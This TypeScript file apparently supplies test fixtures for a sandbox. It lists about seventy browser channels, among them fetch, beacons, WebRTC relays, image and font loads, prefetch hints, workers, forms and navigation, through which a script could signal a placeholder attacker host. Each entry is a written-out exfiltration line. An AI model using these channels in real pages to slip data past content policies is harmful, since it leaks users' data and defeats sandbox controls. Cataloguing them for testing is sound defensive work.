/**
 * Every way that we know by which a script could reach an address, as it would be written by whoever has the page: `HOST` and
 * `UDP` stand for places of the attacker's, `element` makes an element and adds it.
 */
export const waysOut: Readonly<Record<string, string>> = {
  fetch: `fetch('https://HOST/?told')`,
  'fetch in the clear': `fetch('http://HOST/?told', { mode: 'no-cors' })`,
  'fetch that outlives the page': `fetch('https://HOST/', { method: 'POST', keepalive: true, mode: 'no-cors', body: 'told' })`,
  XMLHttpRequest: `(() => { const ask = new XMLHttpRequest(); ask.open('POST', 'https://HOST/'); ask.send('told') })()`,
  beacon: `navigator.sendBeacon('https://HOST/', 'told')`,
  socket: `new WebSocket('wss://HOST/')`,
  'socket in the clear': `new WebSocket('ws://HOST/')`,
  'source of events': `new EventSource('https://HOST/')`,
  'transport over datagrams': `new WebTransport('https://UDP/')`,
  picture: `element('img', { src: 'https://HOST/told.png' })`,
  'picture that nobody sees': `new Image().src = 'http://HOST/told.png'`,
  'set of pictures': `element('img', { srcset: 'https://HOST/told.png 2x' })`,
  film: `element('video', { src: 'https://HOST/told.mp4', poster: 'https://HOST/told.png', autoplay: true })`,
  sound: `element('audio', { src: 'https://HOST/told.mp3', autoplay: true })`,
  script: `element('script', { src: 'https://HOST/told.js' })`,
  module: `import('https://HOST/told.js')`,
  sheet: `element('link', { rel: 'stylesheet', href: 'https://HOST/told.css' })`,
  'sheet of its own': `(() => { const sheet = new CSSStyleSheet(); sheet.replaceSync('body { background: url(https://HOST/told.png) }'); document.adoptedStyleSheets = [sheet] })()`,
  'style by its object': `document.body.style.backgroundImage = 'url(https://HOST/told.png)'`,
  cursor: `document.body.style.cursor = 'url(https://HOST/told.cur), auto'`,
  letters: `(() => { const face = new FontFace('told', 'url(https://HOST/told.woff2)'); document.fonts.add(face); return face.load() })()`,
  'picture in a drawing': `(() => { const drawing = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); const one = document.createElementNS('http://www.w3.org/2000/svg', 'image'); one.setAttribute('href', 'https://HOST/told.png'); drawing.append(one); document.body.append(drawing) })()`,
  'thing used in a drawing': `(() => { const drawing = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); const one = document.createElementNS('http://www.w3.org/2000/svg', 'use'); one.setAttribute('href', 'https://HOST/told.svg#x'); drawing.append(one); document.body.append(drawing) })()`,
  'connection ahead': `element('link', { rel: 'preconnect', href: 'https://HOST/' })`,
  'name ahead': `element('link', { rel: 'dns-prefetch', href: 'https://HOST/' })`,
  'page ahead': `element('link', { rel: 'prefetch', href: 'https://HOST/told' })`,
  'page drawn ahead': `element('link', { rel: 'prerender', href: 'https://HOST/told' })`,
  'thing ahead': `element('link', { rel: 'preload', as: 'image', href: 'https://HOST/told.png' })`,
  'script ahead': `element('link', { rel: 'modulepreload', href: 'https://HOST/told.js' })`,
  manifest: `element('link', { rel: 'manifest', href: 'https://HOST/told.json' })`,
  icon: `element('link', { rel: 'icon', href: 'https://HOST/told.ico' })`,
  'rules of pages ahead': `element('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: ['https://HOST/told'] }] }) })`,
  frame: `element('iframe', { src: 'https://HOST/told' })`,
  'frame of a text': `element('iframe', { srcdoc: '<img src="https://HOST/told.png">' })`,
  'frame of a link': `element('iframe', { src: 'data:text/html,<img src=https://HOST/told.png>' })`,
  'empty frame': `element('iframe', {}).contentWindow.fetch('https://HOST/told')`,
  'call from an empty frame': `(() => { const other = element('iframe', {}).contentWindow; const call = new other.RTCPeerConnection({ iceServers: [{ urls: 'stun:UDP' }] }); call.createDataChannel('told'); return call.createOffer().then((offer) => call.setLocalDescription(offer)) })()`,
  object: `element('object', { data: 'https://HOST/told' })`,
  embed: `element('embed', { src: 'https://HOST/told' })`,
  form: `element('form', { action: 'https://HOST/told', method: 'post' }).submit()`,
  'form in a new window': `element('form', { action: 'https://HOST/told', target: '_blank' }).submit()`,
  base: `(element('base', { href: 'https://HOST/' }), element('img', { src: 'told.png' }))`,
  refresh: `element('meta', { httpEquiv: 'refresh', content: '0; url=https://HOST/told' })`,
  'another policy': `element('meta', { httpEquiv: 'content-security-policy', content: "img-src *; report-uri https://HOST/told" })`,
  place: `location.href = 'https://HOST/told'`,
  'place in the clear': `location.replace('http://HOST/told')`,
  'place of a file': `location.href = 'file:////HOST/told'`,
  'place of a program': `location.href = 'quita-told://HOST/told'`,
  link: `Object.assign(document.createElement('a'), { href: 'https://HOST/told' }).click()`,
  'link that pings': `Object.assign(document.createElement('a'), { href: '#', ping: 'https://HOST/told' }).click()`,
  'link that downloads': `Object.assign(document.createElement('a'), { href: 'https://HOST/told', download: 'told' }).click()`,
  window: `open('https://HOST/told')`,
  'window that nobody knows': `open('https://HOST/told', '_blank', 'noopener')`,
  'window of the confirmation': `open(location.origin.replace('bundle', 'confirmation') + '/index.html')`,
  'place of the confirmation': `location.href = location.origin.replace('bundle', 'confirmation') + '/index.html'`,
  'frame of the confirmation': `element('iframe', { src: location.origin.replace('bundle', 'confirmation') + '/index.html' })`,
  worker: `new Worker('https://HOST/told.js')`,
  'worker of a text': `new Worker(URL.createObjectURL(new Blob(["fetch('https://HOST/told')"])))`,
  'shared worker': `new SharedWorker('https://HOST/told.js')`,
  'worker of services': `navigator.serviceWorker.register('https://HOST/told.js')`,
  'worklet of styles': `CSS.paintWorklet.addModule('https://HOST/told.js')`,
  'worklet of sounds': `new AudioContext().audioWorklet.addModule('https://HOST/told.js')`,
  'call by datagrams': `(() => { const call = new RTCPeerConnection({ iceServers: [{ urls: 'stun:UDP' }] }); call.createDataChannel('told'); return call.createOffer().then((offer) => call.setLocalDescription(offer)) })()`,
  'call by a relay': `(() => { const call = new RTCPeerConnection({ iceServers: [{ urls: 'turn:HOST?transport=tcp', username: 'told', credential: 'x' }] }); call.createDataChannel('told'); return call.createOffer().then((offer) => call.setLocalDescription(offer)) })()`,
  'call by a sealed relay': `(() => { const call = new RTCPeerConnection({ iceServers: [{ urls: 'turns:HOST?transport=tcp', username: 'told', credential: 'x' }] }); call.createDataChannel('told'); return call.createOffer().then((offer) => call.setLocalDescription(offer)) })()`,
  'call by a relay over datagrams': `(() => { const call = new RTCPeerConnection({ iceTransportPolicy: 'relay', iceServers: [{ urls: 'turn:UDP', username: 'told', credential: 'x' }] }); call.createDataChannel('told'); return call.createOffer().then((offer) => call.setLocalDescription(offer)) })()`,
  'call to a number': `(async () => {
    const call = new RTCPeerConnection()
    call.createDataChannel('told')
    const offer = await call.createOffer()
    await call.setLocalDescription(offer)
    await call.setRemoteDescription({ type: 'answer', sdp: offer.sdp.replace('a=setup:actpass', 'a=setup:active') })
    const [host, port] = 'HOST'.split(':')
    const [, datagrams] = 'UDP'.split(':')
    const at = { sdpMid: '0', sdpMLineIndex: 0 }
    await call.addIceCandidate({ candidate: 'candidate:1 1 udp 2122260223 ' + host + ' ' + datagrams + ' typ host', ...at })
    await call.addIceCandidate({ candidate: 'candidate:2 1 tcp 2122260223 ' + host + ' ' + port + ' typ host tcptype passive', ...at })
  })()`,
  payment: `new PaymentRequest([{ supportedMethods: 'https://HOST/told' }], { total: { label: 'x', amount: { currency: 'BRL', value: '1' } } }).canMakePayment()`,
  identity: `navigator.credentials.get({ identity: { providers: [{ configURL: 'https://HOST/told.json', clientId: 'x' }] } })`,
  'keeping for later': `caches.open('x').then((cache) => cache.add('https://HOST/told'))`,
  'share of a file': `navigator.share({ url: 'https://HOST/told' })`,
}
